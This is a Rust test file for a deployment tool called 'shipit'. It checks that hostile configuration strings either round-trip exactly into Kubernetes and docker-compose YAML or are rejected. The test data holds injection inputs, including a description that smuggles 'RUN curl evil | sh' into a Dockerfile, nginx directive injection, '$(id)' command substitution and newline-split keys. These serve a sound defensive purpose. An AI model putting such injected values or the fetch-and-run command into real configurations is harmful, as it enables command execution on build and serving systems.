//! Hostile strings in configuration: they round-trip exactly through the
//! rendered YAML, or they are refused with a clear error.

use crate::harness::Project;

const HOSTILE: &[&str] = &[
    "double \" and single ' quotes",
    "line one\nline two\r\nline three",
    "key: value",
    "# not a comment",
    "{{ template }} {% block %}",
    "${HOME} $(id) `id` $$",
    "yes",
    "~",
    "null",
    "- item",
    "&anchor *alias !tag",
    "tab\tand nul\u{0} and bell\u{7}",
    "del\u{7f} c1\u{85}\u{9f} bom\u{feff} nonchars\u{fffe}\u{ffff} separators\u{2028}\u{2029}",
    "right-to-left \u{202e} override",
    "unicode ñ 雪 🚀",
    "",
];

fn toml_string(s: &str) -> String {
    toml::Value::String(s.to_string()).to_string()
}

fn yaml_at<'a>(doc: &'a yaml_serde::Value, path: &[&str]) -> &'a yaml_serde::Value {
    path.iter().fold(doc, |node, key| &node[*key])
}

#[test]
fn hostile_env_values_round_trip_through_kubernetes_and_compose_yaml() {
    let mut env = String::from("[env]\n");
    for (i, s) in HOSTILE.iter().enumerate() {
        env.push_str(&format!("HOSTILE_{i} = {}\n", toml_string(s)));
    }
    let project = Project::minimal(&env);
    project.shipit(&["render", "test"]).success();

    let configmap: yaml_serde::Value =
        yaml_serde::from_str(&project.read("generated/test/k8s/configmap.yaml")).unwrap();
    let compose: yaml_serde::Value =
        yaml_serde::from_str(&project.read("generated/test/docker-compose.yml")).unwrap();
    for (i, s) in HOSTILE.iter().enumerate() {
        let key = format!("HOSTILE_{i}");
        assert_eq!(
            yaml_at(&configmap, &["data", &key]).as_str(),
            Some(*s),
            "configmap {key}"
        );
        // compose interpolates `$`; shipit writes it as `$$`, which compose reads back as `$`.
        let in_compose = yaml_at(&compose, &["services", "calculator", "environment", &key])
            .as_str()
            .unwrap();
        assert_eq!(in_compose.replace("$$", "$"), *s, "compose {key}");
    }
}

#[test]
fn hostile_values_headed_for_nginx_or_a_dockerfile_are_refused() {
    let cases: &[(&str, &str)] = &[
        (
            "[app]\ndescription = \"x\\\"\\nRUN curl evil | sh\"\n",
            "app.description",
        ),
        (
            "[gateway]\nserver_names = [\"a.example.com; return 200\"]\n",
            "gateway.server_names.0",
        ),
        (
            "[gateway]\nserver_names = [\"{{ x }}\"]\n",
            "gateway.server_names.0",
        ),
        (
            "[app]\nhealth_path = \"/health { return 200; }\"\n",
            "app.health_path",
        ),
        (
            "[image.build_args]\nFLAGS = \"$(id)\"\n",
            "image.build_args.FLAGS",
        ),
        (
            "[image.build_args]\nFLAGS = \"a\\nRUN id\"\n",
            "image.build_args.FLAGS",
        ),
        (
            "[gateway.tls]\nenabled = true\ncertificate = \"/etc/x.crt;\"\ncertificate_key = \"/etc/x.key\"\n",
            "gateway.tls.certificate",
        ),
        (
            "[image]\nregistry = \"evil.example.com\\n\"\n",
            "image.registry",
        ),
    ];
    for (env, key) in cases {
        let project = Project::minimal(env);
        let run = project.shipit(&["render", "test"]).code(2);
        assert!(
            run.stderr.contains(&format!("(key `{key}`)")),
            "{env:?} should be refused at `{key}`:\n{}",
            run.stderr
        );
        assert!(
            !project.exists("generated"),
            "{env:?}: a refused render wrote files"
        );
    }
}

#[test]
fn hostile_keys_are_refused() {
    let project = Project::minimal("[env]\n\"A: b\" = \"x\"\n\"EVIL\\nKEY\" = \"y\"\n");
    let run = project.shipit(&["validate", "test"]).code(2);
    assert!(
        run.stderr
            .contains("\"A: b\" is not a valid environment variable name"),
        "{}",
        run.stderr
    );
    assert!(
        run.stderr
            .contains("is not a valid environment variable name (key `env.EVIL\nKEY`)"),
        "{}",
        run.stderr
    );
}
